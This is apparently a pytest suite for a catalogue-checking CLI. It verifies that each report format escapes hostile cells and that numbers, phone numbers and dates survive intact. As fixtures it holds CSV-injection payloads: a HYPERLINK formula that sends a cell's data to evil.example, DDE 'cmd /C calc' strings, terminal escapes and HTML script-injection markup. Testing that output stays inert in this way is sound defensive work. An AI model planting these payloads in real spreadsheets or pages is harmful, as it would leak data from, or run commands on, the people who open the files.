"""Reports are inert: hostile cells in every report format, end to end through the CLI.

Formula payloads (OWASP CSV injection), terminal escapes, control characters, XML-illegal
characters, lone surrogates, markup breakers: every format still parses as what it claims to be,
nothing in a spreadsheet is a live formula, and numbers, phone numbers and dates come back as they
were, so the sheet re-imports into the ERP.
"""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from helpers import Workspace, write_csv
from shelfcheck.ingest.table import escape_text
from shelfcheck.reporters.inert import formula_like, neutralise, scrub_surrogates, xml_text
from test_cli import run
from test_reporters_support import ROOT

FORMATS = ("table", "json", "html", "csv", "xlsx", "sarif", "junit")

# Cells a spreadsheet would evaluate as a formula that reaches something.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=1+1",
    "- Feature one",
    "+E1",
    "-A1",
]
# Cells that stay exactly as they are: numbers, phone numbers, dates, ordinary text.
KEPT = ["-5", "+5", "-1.5", "-1,234.50", "-12.5%", "-1e3", "+1 555 123 4567", "+86 (755) 8888-8888",
        "-(20)", "2024-08-01", "Made in China", "", "'=already quoted", "a=b", "x+1", "-", "+"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_are_neutralised(text: str) -> None:
    assert formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_numbers_phones_dates_and_text_are_kept(text: str) -> None:
    assert not formula_like(text)
    assert neutralise(text) == text


def test_xml_text_and_surrogates() -> None:
    assert xml_text("a\x00b\x0bc\ud800d\ufffee\tf\ng\rh") == "a\ufffdb\ufffdc\ufffdd\ufffde\tf\ng\rh"
    assert xml_text("中文 \U0001F600") == "中文 \U0001F600"
    assert scrub_surrogates("ok \udfff") == "ok \ufffd" and scrub_surrogates("ok") == "ok"


# --------------------------------------------------------------------------------------------
# Every format, end to end
# --------------------------------------------------------------------------------------------

HOSTILE = {
    "seller_sku": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "title": "+cmd|' /C calc'!A0 \x1b[2J\x1b]0;pwned\x07 </script><script>alert(1)</script>",
    "category": "@SUM(1+1) \ud800 \x01 ]]> <!-- &amp; \ufffe </style></script><script>alert(1)</script>",
    "brand": "\t=1+1",
    "description": "\r=2+2",
    "quantity": "-5",
    "price": "-1.5",
    "manufacturer_name": "+1 555 123 4567",
    "manufacturer_address": "- No. 5 Road \x00 \x0b",
    "model_first_filing_date": "2024-08-01",
}


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[int, bytes, str]]:
    root = tmp_path_factory.mktemp("hostile")
    catalogue = root / "hostile.json"
    # a JSON catalogue is the only input that can carry a lone surrogate (\ud800 in the text)
    catalogue.write_text(json.dumps([HOSTILE, {"seller_sku": "OK-2", "title": "A plain listing title"}]),
                         "utf-8")
    out = {}
    for fmt in FORMATS:
        target = root / f"report.{fmt}"
        proc = run("check", catalogue, "--format", fmt, "--output", target, "--as-of", "2024-08-01",
                   "--jobs", "1")
        out[fmt] = (proc.returncode, target.read_bytes() if target.exists() else b"", proc.stderr)
    return out


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_is_written_whatever_the_cells_hold(hostile_reports: dict[str, Any], fmt: str) -> None:
    code, data, err = hostile_reports[fmt]
    assert code == 1, err
    assert "Traceback" not in err and "internal error" not in err
    assert data
    if fmt not in ("xlsx",):
        data.decode("utf-8")  # valid UTF-8: no lone surrogate reaches a report


def test_json_stays_json(hostile_reports: dict[str, Any]) -> None:
    report = json.loads(hostile_reports["json"][1])
    found = {f["code"] for f in report["listings"][0]["findings"]}
    assert "category_unknown" in found
    text = json.dumps(report, ensure_ascii=False)
    # the lone surrogate is damage on its row: shown escaped in the finding, never raw
    assert "@SUM(1+1)" in text and "\\ud800" in text and "cell_undecodable" in found


def test_table_carries_no_terminal_escape(hostile_reports: dict[str, Any]) -> None:
    text = hostile_reports["table"][1].decode("utf-8")
    assert "\x1b" not in text and "\x07" not in text
    assert "@SUM(1+1)" in text


def test_html_is_escaped_and_locked_down(hostile_reports: dict[str, Any]) -> None:
    html = hostile_reports["html"][1].decode("utf-8")
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html.count("<script>") == 1 and html.count("</style>") == 1  # the page's own
    assert "&lt;!-- &amp;amp;" in html and "&lt;/style&gt;" in html
    assert "default-src 'none'" in html and "'unsafe-inline'" not in html


def test_sarif_is_valid_json_and_schema(hostile_reports: dict[str, Any]) -> None:
    import jsonschema

    log = json.loads(hostile_reports["sarif"][1])
    schema = json.loads((ROOT / "tests" / "snapshots" / "sarif-2.1.0-subset.schema.json").read_text("utf-8"))
    jsonschema.validate(log, schema)
    messages = [r["message"]["text"] for r in log["runs"][0]["results"]]
    assert any("@SUM(1+1)" in m for m in messages)


def test_junit_is_valid_xml(hostile_reports: dict[str, Any]) -> None:
    root = ET.fromstring(hostile_reports["junit"][1])
    failures = root.findall(".//failure")
    assert failures and any("@SUM(1+1)" in (f.get("message") or "") for f in failures)
    assert any("\ufffd" in (f.get("message") or "") for f in failures)


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_report_has_no_live_formula_and_keeps_numbers(hostile_reports: dict[str, Any]) -> None:
    header, row, *_ = _csv(hostile_reports["csv"][1])
    cells = dict(zip(header, row))
    for name in ("seller_sku", "title", "category", "brand", "description", "manufacturer_address"):
        expected = escape_text(HOSTILE[name], from_bytes=False)[0]  # damage shown escaped (contract §2.7)
        assert cells[name] == "'" + expected, name
    for name in ("quantity", "price", "manufacturer_name", "model_first_filing_date"):
        assert cells[name] == HOSTILE[name], name
    for value in [*header, *row]:
        assert not formula_like(value), value


def test_xlsx_report_has_no_formula_and_flags_formula_text(hostile_reports: dict[str, Any]) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(hostile_reports["xlsx"][1]))
    for ws in wb.worksheets:
        for line in ws.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2])}
    sku = row["seller_sku"]
    assert sku.value == HOSTILE["seller_sku"] and sku.quotePrefix, "value unchanged, flagged as text"
    assert row["brand"].value == "\t=1+1" and row["brand"].quotePrefix
    assert row["quantity"].value == "-5" and not row["quantity"].quotePrefix
    assert row["manufacturer_name"].value == "+1 555 123 4567" and not row["manufacturer_name"].quotePrefix
    assert "\ufffd" in row["category"].value and "\x01" not in row["category"].value


# --------------------------------------------------------------------------------------------
# The seller's own sheet: round trips
# --------------------------------------------------------------------------------------------


def test_xlsx_round_trip_keeps_the_sellers_formulas_and_flags_formula_text(ws: Workspace) -> None:
    listing = ws.listing(seller_sku="RT-1")
    header = list(listing) + ["note", "total"]
    wb = openpyxl.Workbook()
    sheet = wb.active
    sheet.append(header)
    sheet.append([*listing.values(), "=HYPERLINK(\"http://evil.example\")", "=1+1"])
    note = sheet.cell(row=2, column=len(header) - 1).coordinate
    total = sheet.cell(row=2, column=len(header)).coordinate
    sheet[note].data_type = "s"  # text that looks like a formula, as an ERP exports it
    path = ws.root / "catalog.xlsx"
    wb.save(path)
    assert openpyxl.load_workbook(path).active[total].data_type == "f"
    out = ws.root / "checked.xlsx"
    proc = run("check", path, "--format", "xlsx", "--output", out, "--as-of", "2024-08-01")
    assert proc.returncode in (0, 1), proc.stderr
    back = openpyxl.load_workbook(out).active
    assert back[note].value == "=HYPERLINK(\"http://evil.example\")" and back[note].data_type == "s"
    assert back[note].quotePrefix
    assert back[total].data_type == "f" and back[total].value == "=1+1", "the seller's own formula stays"
    assert not back["A2"].quotePrefix


def test_csv_round_trip_re_imports(ws: Workspace) -> None:
    """The checked CSV goes back into the ERP: the quoted cells are text, the rest is unchanged,
    and checking it again reads the same rows with the same numbers."""
    rows = [ws.listing(seller_sku="RT-1", quantity="-5", brand="=HYPERLINK(\"http://evil.example\")"),
            ws.listing(seller_sku="RT-2", quantity="12", brand="+1 555 123 4567")]
    path = write_csv(ws.root / "catalog.csv", rows, encoding="gbk")
    out = ws.root / "checked.csv"
    proc = run("check", path, "--format", "csv", "--output", out, "--as-of", "2024-08-01")
    assert proc.returncode == 1, proc.stderr
    text = out.read_bytes().decode("gb18030")
    back = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["brand"] for r in back] == ["'=HYPERLINK(\"http://evil.example\")", "+1 555 123 4567"]
    assert [r["quantity"] for r in back] == ["-5", "12"]
    again = run("check", out, "--format", "json", "--as-of", "2024-08-01")
    report = json.loads(again.stdout)
    assert [x["seller_sku"] for x in report["listings"]] == ["RT-1", "RT-2"]
    codes = {f["code"] for f in report["listings"][0]["findings"]}
    assert "value_invalid" in codes, "the negative quantity is read as the number it is"


def test_inventory_csv_and_calibration_file_are_inert(tmp_path: Path) -> None:
    erp = write_csv(tmp_path / "erp.csv", [{"seller_sku": "=HYPERLINK(\"http://evil.example\")", "quantity": "50"},
                                           {"seller_sku": "OK-1", "quantity": "3"}])
    platform = write_csv(tmp_path / "platform.csv", [
        {"seller_sku": "=HYPERLINK(\"http://evil.example\")", "platform_quantity": "40", "synced_at": "2024-08-01"},
        {"seller_sku": "OK-1", "platform_quantity": "20", "synced_at": "2024-08-01"}])
    calibration = tmp_path / "calibration.csv"
    proc = run("inventory", "reconcile", erp, "--platform", platform, "--format", "csv", "--output", calibration,
               "--db", tmp_path / "l.db")
    assert proc.returncode == 1, proc.stderr
    report = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert [r["seller_sku"] for r in report] == ["'=HYPERLINK(\"http://evil.example\")", "OK-1"]
    assert [r["drift"] for r in report] == ["10", "-17"], "a negative drift stays a number"
    rows = list(csv.DictReader(io.StringIO(calibration.read_text("utf-8"))))
    assert rows == [{"seller_sku": "'=HYPERLINK(\"http://evil.example\")", "quantity": "50"},
                    {"seller_sku": "OK-1", "quantity": "3"}]


def test_content_hash_takes_a_lone_surrogate() -> None:
    """``check`` hashes every listing when a ledger exists: a lone surrogate must not stop it."""
    from shelfcheck.ledger.hashing import listing_content_hash

    plain = listing_content_hash({"seller_sku": "A", "title": "Title"}, [])
    broken = listing_content_hash({"seller_sku": "A", "title": "Title \ud800"}, [])
    assert len(broken) == 64 and broken != plain
    assert plain == listing_content_hash({"seller_sku": "A", "title": "Title"}, [])
